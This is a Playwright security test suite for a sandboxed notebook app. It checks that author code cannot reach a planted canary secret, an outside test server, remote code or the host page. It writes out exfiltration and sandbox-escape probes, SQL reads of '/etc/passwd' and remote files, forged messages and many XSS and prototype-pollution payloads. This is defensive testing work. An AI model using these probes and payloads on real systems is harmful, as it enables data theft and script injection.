import { expect, type Frame, type Page } from "@playwright/test";
import { sites } from "../scripts/test-sites.mjs";
import { App } from "./app";
import { test, type Outside } from "./outside";
import { xssPayloads } from "./xss-payloads";

const canary = "canary-7f3a";
const fence = (code: string) => `\`\`\`ts\n${code}\n\`\`\`\n`;

/** Puts something to steal into every place where the app's origin keeps things, and notes whatever runs that must not. */
async function arm(page: Page): Promise<void> {
  await page.addInitScript((secret) => {
    if (origin === "null") return;
    localStorage.setItem("canary", secret);
    document.cookie = `canary=${secret}; path=/`;
    const opened = indexedDB.open("canary");
    opened.onupgradeneeded = () => opened.result.createObjectStore("rows").put(secret, "row");
    opened.onsuccess = () => opened.result.close();
    const seen: string[] = [];
    Object.assign(globalThis, { seen, xss: () => seen.push("a script ran") });
    const isBad = (element: Element) => {
      const name = element.localName;
      if (name === "script") return !(element as HTMLScriptElement).src.includes("/_next/static/");
      if (name === "iframe") return (element as HTMLIFrameElement).title !== "Sandbox";
      if (/^(object|embed|base|meta|form|frameset|applet|math|template|audio|video|image)$/.test(name))
        return element.parentElement !== document.head;
      return [...element.attributes].some(
        ({ name: key, value }) =>
          key.startsWith("on") ||
          (/^(href|src|action|formaction|xlink:href|data|ping|poster|srcset)$/.test(key) &&
            !/^(https?:|mailto:|blob:|\.?\/|#|\?|$)/i.test(value.trim())) ||
          (name === "img" && /^https?:/.test(value)),
      );
    };
    new MutationObserver((records) => {
      for (const node of records.flatMap(({ addedNodes }) => [...addedNodes])) {
        if (!(node instanceof Element)) continue;
        for (const element of [node, ...node.querySelectorAll("*")])
          if (isBad(element)) seen.push(element.outerHTML.slice(0, 200));
      }
    }).observe(document, { childList: true, subtree: true });
  }, canary);
}

const seenBy = (page: Page) => page.evaluate(() => (globalThis as unknown as { seen: string[] }).seen);

/** The frame and its worker, in which a run waits for ever. */
async function sandboxOf(page: Page): Promise<Frame> {
  await expect.poll(() => page.frames().length).toBe(2);
  return page.frames()[1]!;
}

/** Tries, as code of an author, to reach all that it must not; gives what it got. */
const probes = (home: string, { url }: Outside) => `
  const g: any = self;
  const got: string[] = [];
  const attempt = async (name: string, fn: () => any) => {
    try {
      const found = await fn();
      if (found !== undefined && found !== null && found !== false) got.push(name + ": " + String(found).slice(0, 80));
    } catch {}
  };
  const opened = (request: any) => new Promise((yes, no) => { request.onsuccess = () => yes(request.result); request.onerror = request.onblocked = no; });
  const socket = (made: any) => new Promise((yes, no) => { made.onopen = () => yes("open"); made.onerror = no; });
  const sent = (X: any, address: string, isAsync: boolean) => new Promise((yes, no) => { const x = new X(); x.open("GET", address, isAsync); x.onload = () => yes(x.responseText); x.onerror = no; x.send(); if (!isAsync) yes(x.responseText); });
  // 1, 2: storage
  await attempt("databases", async () => (await g.indexedDB.databases()).map((one: any) => one.name).join());
  await attempt("canary", () => opened(g.indexedDB.open("canary")));
  await attempt("runnel", () => opened(g.indexedDB.open("runnel")));
  await attempt("localStorage", () => g.localStorage.getItem("canary"));
  await attempt("sessionStorage", () => g.sessionStorage);
  await attempt("cookie", () => g.document.cookie);
  await attempt("cookieStore", async () => (await g.cookieStore.getAll()).length);
  await attempt("caches", () => g.caches.keys());
  await attempt("opfs", () => g.navigator.storage.getDirectory());
  await attempt("locks", async () => (await g.navigator.locks.query()).held.length);
  await attempt("serviceWorker", () => g.navigator.serviceWorker);
  // 3, 8, 14: ways out of the worker
  for (const name of ["BroadcastChannel", "SharedWorker", "Worker", "importScripts", "postMessage", "close", "document", "window", "parent", "opener", "RTCPeerConnection"])
    await attempt(name, () => typeof g[name] === "undefined" ? undefined : name);
  await attempt("nested", () => new g.Worker(URL.createObjectURL(new Blob(["1"]))));
  // 4, 6: the network
  for (const address of ["${url}a", "${url.replace("127.0.0.1", "localhost")}a", "${url.replace("127.0.0.1", "[::1]")}a", "http://10.0.0.1/", "http://router.local/", "${home}", "${home}sandbox/guest.js", "${sites.sandbox}frame.html", "https://example.com/"]) {
    await attempt("fetch " + address, async () => (await g.fetch(address)).status);
    await attempt("no-cors " + address, () => g.fetch(address, { mode: "no-cors", credentials: "include", keepalive: true }));
    const plain = Object.getPrototypeOf(g.XMLHttpRequest);
    await attempt("xhr " + address, () => sent(plain, address, true));
    await attempt("sync xhr " + address, () => sent(plain, address, false));
  }
  await attempt("request", () => g.fetch(new Request("${url}r", { method: "POST", body: "x" })));
  await attempt("socket", () => socket(new g.WebSocket("${url.replace("http", "ws")}s")));
  await attempt("events", () => socket(new g.EventSource("${url}e")));
  await attempt("transport", () => new g.WebTransport("${url.replace("http:", "https:")}t").ready);
  await attempt("beacon", () => g.navigator.sendBeacon("${url}b", "x"));
  await attempt("font", async () => { await new g.FontFace("f", "url(${url}f)").load(); return "font"; });
  await attempt("blob", async () => (await g.fetch(URL.createObjectURL(new Blob(["x"])))).text());
  await attempt("data", async () => (await g.fetch("data:,x")).text());
  // 5: more code
  await attempt("eval", () => g.eval("1"));
  await attempt("function", () => new g.Function("return 1")());
  await attempt("constructor", () => (async () => {}).constructor("return 1")());
  await attempt("origin", () => g.origin === "null" && g.location.origin === "null" ? undefined : g.origin);
  return got;`;

for (const [site, name] of [
  [sites.app, "second site"],
  [sites.plain, "plain host"],
] as const)
  test.describe(name, () => {
    test.beforeEach(async ({ page }) => await arm(page));

    test("1–7, 14, 21: code reaches no storage, no page, no network, and no more code; opening runs nothing", async ({
      page,
      outside,
    }) => {
      const app = new App(page, site);
      const asked: string[] = [];
      page.on("request", (request) => asked.push(request.url()));
      await app.openForeign(
        "Probes",
        `![x](${outside.url}image)\n\n${fence(`fetch("${outside.url}top");
const probe = async () => {${probes(site, outside)}};
const inTask = task(probe);
const main = flow(async () => JSON.stringify([await probe(), await inTask()]));`)}`,
      );
      // Nothing of it has run: there is no sandbox yet, and no data engine.
      await expect(app.cell("inTask, main")).toBeVisible({ timeout: 90_000 });
      expect(page.frames()).toHaveLength(1);
      expect(asked.filter((url) => /duckdb|guest\.js|frame\.html|data\.js/.test(url))).toEqual([]);

      await app.write(
        page.locator("[data-cell]").last(),
        `const probe = async () => {${probes(site, outside)}};
const inTask = task(probe);
const main = flow(async () => JSON.stringify([await probe(), await inTask()]));`,
      );
      await app.run("Completed");
      await expect(app.cell("inTask, main")).toContainText("[[],[]]");
      expect(outside.hits).toEqual([]);
      expect(await seenBy(page)).toEqual([]);
    });

    test("5: what a compiler would let through by mistake is refused all the same", async ({
      page,
      outside,
    }) => {
      const app = new App(page, site);
      await app.openForeign(
        "Waits",
        fence("const main = flow(async () => await new Promise(() => undefined));"),
      );
      await app.start();
      await expect(app.runPanel.locator("header")).toContainText("Running");
      const loaded = await (
        await sandboxOf(page)
      ).evaluate(async (url) => {
        const code = `onmessage = async () => {
          const got = [];
          const attempt = async (name, fn) => { try { await fn(); got.push(name); } catch {} };
          await attempt("import", () => import("${url}x.js"));
          await attempt("data import", () => import("data:text/javascript,export default 1"));
          await attempt("importScripts", () => importScripts("${url}x.js"));
          await attempt("remote worker", () => new Promise((yes, no) => { const w = new Worker("${url}x.js"); w.onmessage = yes; w.onerror = no; }));
          await attempt("data worker", () => new Promise((yes, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = yes; w.onerror = no; }));
          await attempt("nested fetch", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${url}n").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => (data ? yes() : no()); w.onerror = no; }));
          postMessage(got);
        }`;
        const types = (
          globalThis as unknown as {
            trustedTypes: {
              createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
            };
          }
        ).trustedTypes;
        const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
        const trusted = types.createPolicy("runnel-load", { createScriptURL: (text: string) => text });
        const worker = new Worker(trusted.createScriptURL(blob));
        return await new Promise((resolve) => {
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = ({ message }) => resolve(message);
          worker.postMessage("go");
        });
      }, outside.url);
      expect(loaded).toEqual([]);
      expect(outside.hits).toEqual([]);
    });

    test("8, 9: forged messages end their own run, and broken basics hurt nobody else", async ({
      page,
      outside,
    }) => {
      const app = new App(page, site);
      const forge = (path: string, value: string) => `
  const ports = new Set<any>();
  const send = MessagePort.prototype.postMessage;
  (MessagePort.prototype as any).postMessage = function (this: any, ...args: any[]) { ports.add(this); return (send as any).apply(this, args); };
  await Variable.set("x", 1, { overwrite: true });
  await fromRows([{ a: 1 }]).then(() => 0, () => 0);
  for (const port of ports) send.call(port, { id: "forged", type: "APPLY", path: ${path}, argumentList: [{ type: "RAW", value: ${value} }] });
  await new Promise((resolve) => setTimeout(resolve, 300));
  getRunLogger().info("still here");
  return 1;`;
      const event = `[{ type: "emitted", at: 0, event: "runnel.file.offered", resource: {}, related: [], payload: { name: "evil.exe", hash: "x", size: 1 } }]`;
      await app.openForeign(
        "Forges",
        fence(`const main = flow(async () => {${forge(`["events"]`, event)}});`),
      );
      await app.run("Crashed");
      await expect(app.runPanel.locator("header")).toContainText("no event of its own");
      await expect(app.runPanel).not.toContainText("evil.exe");

      const address = `{ name: "x", format: "csv", source: { type: "sample", file: "${outside.url}steal" }, options: {} }`;
      await app.write(
        page.locator("[data-cell]").last(),
        `const main = flow(async () => {${forge(`["readCell"]`, address)}});`,
      );
      await app.run("Completed");
      expect(outside.hits).toEqual([]);

      await app.write(
        page.locator("[data-cell]").last(),
        `const breakAll = task(() => {
  const nothing = () => { throw new Error("broken"); };
  for (const [owner, key] of [[Array.prototype, "map"], [Promise.prototype, "then"], [JSON, "stringify"], [Object, "entries"], [MessagePort.prototype, "postMessage"], [Map.prototype, "get"]] as any[]) owner[key] = nothing;
  (Object.prototype as any).polluted = true;
  return { fine: true };
});
const main = flow({ timeoutSeconds: 5 }, async () => await breakAll());`,
      );
      await app.start();
      await expect(page.getByRole("button", { name: "Run", exact: true })).toBeVisible({ timeout: 30_000 });
      await expect(app.runPanel.locator("header")).toContainText(/Completed|Failed|Crashed|TimedOut/);
      await app.write(
        page.locator("[data-cell]").last(),
        "const main = flow(async () => [1].map(String).join());",
      );
      await app.run("Completed");
      expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    });

    test("10, 11: values made to break whoever reads them end in a clean state", async ({ page }) => {
      const app = new App(page, site);
      await app.openForeign(
        "Values",
        fence(`const values: Record<string, () => any> = {
  proto: () => JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'),
  getter: () => ({ get a() { throw new Error("no"); } }),
  toJson: () => ({ toJSON: () => { throw new Error("no"); } }),
  deep: () => { let a: any = []; for (let i = 0; i < 1e5; i++) a = [a]; return a; },
  ring: () => { const a: any = {}; a.a = a; return a; },
  huge: () => new ArrayBuffer(2 ** 31),
  thenable: () => ({ then: (resolve: any) => resolve({ then: 1 }) }),
  proxy: () => new Proxy({}, { get: () => { throw new Error("no"); }, ownKeys: () => { throw new Error("no"); } }),
  error: () => { throw Object.assign(new Error("x"), { name: { toString: null }, stack: 1, cause: { cause: 1 } }); },
  nothing: () => { throw undefined; },
  symbol: () => Symbol("x"),
};
const give = task(async (name: string) => await values[name]());
const leave = task(async () => {
  await createTableArtifact({ key: "deep", table: JSON.parse("[{\\"a\\":" + "[".repeat(5000) + "]".repeat(5000) + "}]") }).catch(() => 0);
  await createMarkdownArtifact({ key: "md", markdown: "[".repeat(20_000) + "> ".repeat(2_000) + "x" });
});
const main = flow(async () => {
  const ends: string[] = [];
  for (const name of Object.keys(values)) ends.push(name + " " + (await give.submit(name).wait().then(() => "over", () => "over")));
  await leave().catch(() => 0);
  return ends.length + " settled";
});`),
      );
      await app.run("Completed");
      await expect(app.cell("give, leave, main")).toContainText("11 settled");
      expect(await page.evaluate(() => "polluted" in {})).toBe(false);
      await app.runPanel.getByRole("tab", { name: /Artifacts/ }).click();
      await expect(app.runPanel.getByRole("heading", { name: "md" })).toBeVisible();
    });

    test("15, 16: code in the frame itself gets nothing out of it", async ({ page, outside }) => {
      const app = new App(page, site);
      await app.openForeign(
        "Waits",
        fence("const main = flow(async () => await new Promise(() => undefined));"),
      );
      await app.start();
      await expect(app.runPanel.locator("header")).toContainText("Running");
      const url = page.url();
      const frame = await sandboxOf(page);
      await frame.evaluate(
        async ([address, port]) => {
          const attempt = (fn: () => unknown) => {
            try {
              return fn();
            } catch {
              return undefined;
            }
          };
          const add = (tag: string, attributes: Record<string, string>) =>
            new Promise((resolve) => {
              const element = document.createElement(tag);
              element.onload = element.onerror = resolve;
              for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
              document.body.append(element);
              // Not all of these say how they ended; what they would fetch, they would have asked for by then.
              setTimeout(resolve, 200);
              if (tag === "a" || tag === "form") attempt(() => (element as HTMLAnchorElement).click());
              if (tag === "form") attempt(() => (element as HTMLFormElement).submit());
            });
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
          peer.createDataChannel("x");
          await attempt(async () => await peer.setLocalDescription(await peer.createOffer()));
          attempt(() => open(`${address}open`));
          attempt(() => (top!.location.href = `${address}top`));
          attempt(() => (parent.location.href = `${address}parent`));
          attempt(() => parent.document.body);
          attempt(() => navigator.sendBeacon(`${address}beacon`, "x"));
          for (const [tag, attributes] of [
            ["img", { src: `${address}img` }],
            ["script", { src: `${address}x.js` }],
            ["iframe", { src: `${address}frame` }],
            ["iframe", { srcdoc: `<img src="${address}nested">` }],
            ["object", { data: `${address}object` }],
            ["embed", { src: `${address}embed` }],
            ["video", { src: `${address}video` }],
            ["link", { rel: "stylesheet", href: `${address}css` }],
            ["link", { rel: "prefetch", href: `${address}prefetch` }],
            ["link", { rel: "preload", as: "script", href: `${address}preload` }],
            ["link", { rel: "modulepreload", href: `${address}module.js` }],
            ["div", { style: `background: url(${address}style)` }],
            ["a", { href: `${address}blank`, target: "_blank" }],
            ["form", { action: `${address}form`, method: "post" }],
          ] as const)
            await add(tag, attributes);
        },
        [outside.url, outside.stunPort] as const,
      );
      // The page's frame-src refuses these; the frame is lost with them, and its run.
      await frame
        .evaluate((address) => {
          const meta = document.createElement("meta");
          meta.httpEquiv = "refresh";
          meta.content = `0;url=${address}refresh`;
          document.head.append(meta);
          const link = document.createElement("a");
          link.href = `${address}download`;
          link.download = "x";
          link.click();
          location.href = `${address}self`;
        }, outside.url)
        .catch(() => undefined);
      // The page has answered after all that: nothing of it is still on its way.
      await app.title.fill("Still here");
      await app.title.press("Enter");
      await expect(page.getByText("Saved")).toBeAttached();
      expect(outside.hits).toEqual([]);
      expect(page.url()).toBe(url);
      expect(page.context().pages()).toHaveLength(1);
      // Only a header stops WebRTC, which windows have and workers, where the author's code is, have not.
      if (site === sites.app) expect(outside.packets()).toBe(0);
    });

    test("22, 23: SQL has no files, no network, no settings, and no other notebook's tables", async ({
      page,
      outside,
    }) => {
      const app = new App(page, site);
      await app.openNew({ kind: "SQL", name: "private_rows", text: `SELECT '${canary}' AS secret` });
      await app.run("Completed");
      const texts = [
        `SELECT * FROM read_csv('${outside.url}a.csv')`,
        `SELECT * FROM '${outside.url}a.csv'`,
        `SELECT * FROM "${outside.url}a.parquet"`,
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('*')",
        "SELECT * FROM glob('*')",
        `ATTACH '${outside.url}a.db'`,
        `COPY (SELECT 1) TO '${outside.url}a.csv'`,
        `INSTALL x FROM '${outside.url}'`,
        `LOAD '${outside.url}x.wasm'`,
        "SET enable_external_access = true",
        "RESET lock_configuration",
        `SET custom_extension_repository = '${outside.url}'`,
        "CREATE SECRET (TYPE http, BEARER_TOKEN 'x')",
        "PRAGMA database_list",
        "EXPORT DATABASE 'x'",
        "SELECT 1; SELECT 2",
        "SELECT * FROM private_rows",
        "FROM query('SELECT 1')",
        `SELECT * FROM parquet_scan('${outside.url}a')`,
        `SELECT * FROM read_json('${outside.url}a')`,
        `WITH x AS (SELECT 1) DELETE FROM x`,
      ];
      const names = `SELECT coalesce(string_agg(concat_ws(' ', x::VARCHAR), ' '), '') AS all_names FROM`;
      await app.openForeign(
        "Queries",
        fence(`const texts = ${JSON.stringify(texts)};
const query = task(async (text: string) => { await (await sql([text] as any)).toArray(); });
const main = flow(async () => {
  const done: string[] = [];
  for (const text of texts) await query(text).then(() => done.push(text), () => 0);
  const known: string[] = [];
  for (const from of ["duckdb_tables()", "information_schema.tables", "duckdb_secrets()", "duckdb_views()", "duckdb_temporary_files()"])
    await sql(["${names} " + from + " AS x"] as any).then(async (table) => known.push(JSON.stringify(await table.toArray())), () => 0);
  return JSON.stringify([done, known.join().includes("private_rows") || known.join().includes("${canary}")]);
});`),
      );
      await app.run("Completed");
      await expect(app.cell("query, main")).toContainText("[[],false]");
      expect(outside.hits).toEqual([]);
    });

    test("17, 18: markup in whatever is shown stays text", async ({ page, outside }) => {
      const app = new App(page, site);
      const said: string[] = [];
      page.on("dialog", (dialog) => {
        said.push(dialog.message());
        void dialog.dismiss();
      });
      page.on("console", (message) => {
        if (/Content Security Policy|Trusted/.test(message.text())) said.push(message.text());
      });
      const payloads = xssPayloads(outside.url);
      expect(payloads.length).toBeGreaterThan(200);
      const [first, second] = ["<img src=x onerror=xss()>", "<svg onload=xss()>"];
      const cells = [0, 1, 2, 3].map((part) => {
        const own = payloads.filter((_, index) => index % 4 === part);
        return `<!-- markdown -->\n${own.join("\n\n")}\n<!-- /markdown -->\n\n\`\`\`csv name=table_${part}\n"${second}","b"\n"${first}",1\n\`\`\`\n`;
      });
      await app.openForeign(
        first,
        `${cells.join("\n")}\n${fence(`const payloads: string[] = ${JSON.stringify(payloads).replaceAll("`", "\\u0060")};
const say = task({ name: ${JSON.stringify(first)}, tags: [${JSON.stringify(second)}] }, async (text: string) => {
  getRunLogger().info(text);
  return [{ [text]: text }];
});
const fail = task({ name: ${JSON.stringify(second)} }, async (text: string) => { const error = new Error(text); error.name = text.slice(0, 90); error.stack = text; throw error; });
const main = flow({ name: "{{xss()}} \\"onclick='xss()'", flowRunName: ${JSON.stringify(second)} }, async (shown: string = ${JSON.stringify(first)}) => {
  for (const text of payloads) {
    getRunLogger().warning(text);
    await createMarkdownArtifact({ description: text, markdown: text });
    await createTableArtifact({ table: [{ [text]: text }], description: text });
    await createImageArtifact({ imageUrl: text, description: text }).catch(() => 0);
  }
  emitEvent({ event: ${JSON.stringify(first)}, resource: { "prefect.resource.id": ${JSON.stringify(second)} } });
  for (const text of payloads.filter((_, index) => index % 20 === 0)) { await say(text); await fail(text).catch(() => 0); }
  throw new Error(${JSON.stringify(first)} + shown);
});`)}`,
      );
      await app.run("Failed");
      const scroll = async (list: ReturnType<App["cell"]>) => {
        await list.evaluate(async (element) => {
          for (let top = 0; top < element.scrollHeight; top += element.clientHeight) {
            element.scrollTop = top;
            await new Promise(requestAnimationFrame);
          }
        });
      };
      await scroll(app.runPanel.getByRole("region", { name: "Task runs" }));
      await scroll(await app.log());
      await app.runPanel.getByRole("tab", { name: /Artifacts/ }).click();
      const older = app.runPanel.getByRole("button", { name: /Show older/ });
      for (let pages = 0; pages < 10 && (await older.isVisible()); pages++) await older.click();
      await expect(
        app.runPanel.getByRole("region", { name: "Artifacts" }).getByRole("listitem").nth(60),
      ).toBeAttached();
      await app.history();
      await app.drop("main", { name: `${first}.csv`, text: `${first},"${second}"\n${second},1\n` });
      await expect(app.runPanel.locator("header")).toContainText("Completed");
      await page.goto(app.home);
      await expect(page.getByRole("link", { name: first })).toBeVisible();
      expect(said).toEqual([]);
      expect(await seenBy(page)).toEqual([]);
      expect(outside.hits).toEqual([]);
    });

    test("25: another site can neither frame the app nor talk to it", async ({ page, outside }) => {
      await page.goto(outside.url);
      const isFramed = await page.evaluate(async (address) => {
        const frame = document.createElement("iframe");
        frame.src = address;
        document.body.append(frame);
        await new Promise((resolve) => (frame.onload = resolve));
        return frame.contentWindow?.length !== undefined && frame.contentDocument === null;
      }, site);
      const framed = page.frames()[1]!;
      // A host that sends no headers cannot forbid it; what then is framed has another site's storage, and no secrets.
      if (site === sites.app) await expect(framed.getByRole("heading", { level: 1 })).toHaveCount(0);
      else expect(isFramed).toBe(true);

      const [opened] = await Promise.all([
        page.context().waitForEvent("page"),
        page.evaluate((address) => {
          const other = open(address);
          const flood = () => {
            for (const type of ["runnel:open", "runnel:boot", "start", "stop", "ping"])
              other?.postMessage({ type, worker: 0, guest: "xss()", connect: "any", role: "flow" }, "*", [
                new MessageChannel().port1,
              ]);
          };
          for (let turn = 0; turn < 200; turn++) setTimeout(flood, turn * 10);
        }, site),
      ]);
      await expect(opened.getByRole("button", { name: "Empty notebook" })).toBeEnabled();
      if (site === sites.app) expect(await opened.evaluate(() => opener === null)).toBe(true);
      const app = new App(opened, site);
      await app.openNew({ kind: "TypeScript", text: "const main = flow(async () => 1);" });
      await app.run("Completed");
    });
  });
